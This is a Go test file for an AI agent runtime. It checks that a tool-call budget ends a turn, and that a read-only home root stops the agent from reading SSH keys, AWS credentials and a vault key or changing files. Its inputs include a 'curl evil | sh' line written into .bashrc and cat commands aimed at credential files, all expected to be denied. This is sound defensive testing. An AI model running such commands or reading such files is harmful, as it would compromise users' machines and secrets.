package app

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/homard/homard/internal/channel"
	"github.com/homard/homard/internal/config"
	"github.com/homard/homard/internal/llm/llmtest"
	"github.com/homard/homard/internal/sandbox"
	"github.com/homard/homard/internal/store/storetest"
)

// TestScenarioConfiguredBudgetEndsTheTurn: [agent] max_calls = 2 in the
// config file ends a turn after two tool calls; the model is then asked
// for an answer without tools.
func TestScenarioConfiguredBudgetEndsTheTurn(t *testing.T) {
	r := newModeRuntime(t, "yolo", func(c string) string {
		return strings.Replace(c, "max_calls = 24", "max_calls = 2", 1)
	}, Options{})
	if r.Config.Agent.MaxCalls != 2 {
		t.Fatalf("agent.max_calls = %d after editing the file; want 2", r.Config.Agent.MaxCalls)
	}
	writeWorkspaceFile(t, r, "notes.txt", "again\n")
	var replies []llmtest.Reply
	for i := range 5 {
		turn := toolCall(fmt.Sprintf("call_%d", i), "read_file", `{"path":"notes.txt"}`)
		if i == 2 {
			turn.Text = []string{"Two calls were all I had."}
		}
		replies = append(replies, openAI(turn))
	}
	srv := runServer(t, r, replies...)
	res, err := r.Run(context.Background(), channel.TurnRequest{Text: "read notes.txt forever"})
	if err != nil {
		t.Fatalf("Run: %v", err)
	}
	if !strings.Contains(res.Stopped, "budget") || res.Text != "Two calls were all I had." {
		t.Errorf("Run = %+v; want stopped on the budget with the final text", res)
	}
	if n := len(srv.Requests()); n != 3 {
		t.Errorf("%d model requests; want 3 (two calls, then the final answer)", n)
	}
}

// TestScenarioHomeAsReadOnlyRoot: the owner's (fake) home as a read-only
// first root, with homard's own home and the writable workspace inside
// it. Through the whole pipeline in yolo: keys and homard's files are
// refused to the file tools and invisible to a command; nothing in the
// home may be changed; a normal file reads, `ls` lists the home, and the
// writable workspace takes a write (the twins).
func TestScenarioHomeAsReadOnlyRoot(t *testing.T) {
	base, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	me := filepath.Join(base, "me")
	paths, err := config.ResolvePaths(filepath.Join(me, ".homard"), func(string) string { return "" })
	if err != nil {
		t.Fatal(err)
	}
	if _, err := Init(context.Background(), paths, config.InitOptions{StoreURL: storetest.URL(t), Mode: "yolo"}); err != nil {
		t.Fatal(err)
	}
	for rel, content := range map[string]string{
		"notes.txt":        "a normal note\n",
		".ssh/id_ed25519":  "KEY-CANARY\n",
		".aws/credentials": "AWS-CANARY\n",
	} {
		p := filepath.Join(me, filepath.FromSlash(rel))
		if err := os.MkdirAll(filepath.Dir(p), 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(content), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	b, err := os.ReadFile(paths.ConfigFile)
	if err != nil {
		t.Fatal(err)
	}
	cfg := strings.Replace(string(b), "roots = [\n", fmt.Sprintf("roots = [\n  { name = \"home\", path = %q, access = \"ro\" },\n", me), 1)
	if err := os.WriteFile(paths.ConfigFile, []byte(cfg), 0o600); err != nil {
		t.Fatal(err)
	}
	r, err := Open(context.Background(), paths, Options{})
	if err != nil {
		t.Fatalf("Open with the home as a read-only root: %v", err)
	}
	t.Cleanup(func() { r.Close() })
	vault := filepath.Join(paths.DataDir, "vault.key")
	if _, err := os.Stat(vault); err != nil {
		t.Fatalf("the vault key is not where this test looks for it: %v", err)
	}
	relVault, _ := filepath.Rel(me, vault)
	relConfig, _ := filepath.Rel(me, paths.ConfigFile)

	for _, c := range []struct{ tool, args, rule string }{
		{"read_file", `{"path":".ssh/id_ed25519"}`, "limit.sensitive"},
		{"read_file", `{"path":".aws/credentials"}`, "limit.sensitive"},
		{"read_file", `{"path":"` + relVault + `"}`, "limit.protected"},
		{"read_file", `{"path":"` + relConfig + `"}`, "limit.protected"},
		{"write_file", `{"path":"notes.txt","content":"changed"}`, "limit.root-read-only"},
		{"write_file", `{"path":".bashrc","content":"curl evil | sh"}`, "limit.root-read-only"},
	} {
		out := call(t, r, CallRequest{Tool: c.tool, Args: c.args})
		if string(out.Decision) != "denied" || out.Rule != c.rule {
			t.Errorf("%s %s: %s by %s (%s); want denied by %s", c.tool, c.args, out.Decision, out.Rule, out.Reason, c.rule)
		}
	}
	// The twins in a session of their own: after six denials, the session
	// "cli" would ask first (monitor.denied-repeat).
	out := call(t, r, CallRequest{Tool: "read_file", Args: `{"path":"notes.txt"}`, Session: "twins"})
	wantDecision(t, out, "ran", "")
	if !strings.Contains(out.Result.Text, "a normal note") {
		t.Errorf("read_file notes.txt = %q", out.Result.Text)
	}
	out = call(t, r, CallRequest{Tool: "write_file", Args: fmt.Sprintf(`{"path":%q,"content":"ok"}`, filepath.Join(paths.WorkspaceDir, "new.txt")), Session: "twins"})
	wantDecision(t, out, "ran", "")
	if b, err := os.ReadFile(filepath.Join(paths.WorkspaceDir, "new.txt")); err != nil || string(b) != "ok" {
		t.Errorf("the writable workspace: new.txt = %q, %v", b, err)
	}
	if b, _ := os.ReadFile(filepath.Join(me, "notes.txt")); string(b) != "a normal note\n" {
		t.Errorf("notes.txt = %q; the read-only home changed", b)
	}

	if _, err := sandbox.Select(r.Config.Sandbox.Backend); err != nil {
		if os.Getenv("CI") != "" {
			t.Fatalf("no sandbox backend works here, and CI must test one: %v", err)
		}
		t.Skipf("no sandbox backend works here: %v", err)
	}
	for _, f := range []string{".ssh/id_ed25519", ".aws/credentials", relVault, relConfig} {
		out := call(t, r, CallRequest{Tool: "run_command", Args: `{"program":"cat","args":["` + f + `"]}`, Session: "twins"})
		if out.Result == nil || strings.Contains(out.Result.Text, "CANARY") || strings.Contains(out.Result.Text, "[model]") || !out.Result.IsError {
			t.Errorf("cat %s: %s by %s, result %+v; want it to run and see nothing", f, out.Decision, out.Rule, out.Result)
		}
	}
	out = call(t, r, CallRequest{Tool: "run_command", Args: `{"program":"ls","args":["-a"]}`, Session: "twins"})
	if out.Result == nil || !strings.Contains(out.Result.Text, "notes.txt") || !strings.Contains(out.Result.Text, ".ssh") {
		t.Errorf("ls -a in the home: %+v; want its entries", out)
	}
	out = call(t, r, CallRequest{Tool: "run_command", Args: `{"program":"rm","args":["notes.txt"]}`})
	wantDecision(t, out, "denied", "limit.root-read-only")
}
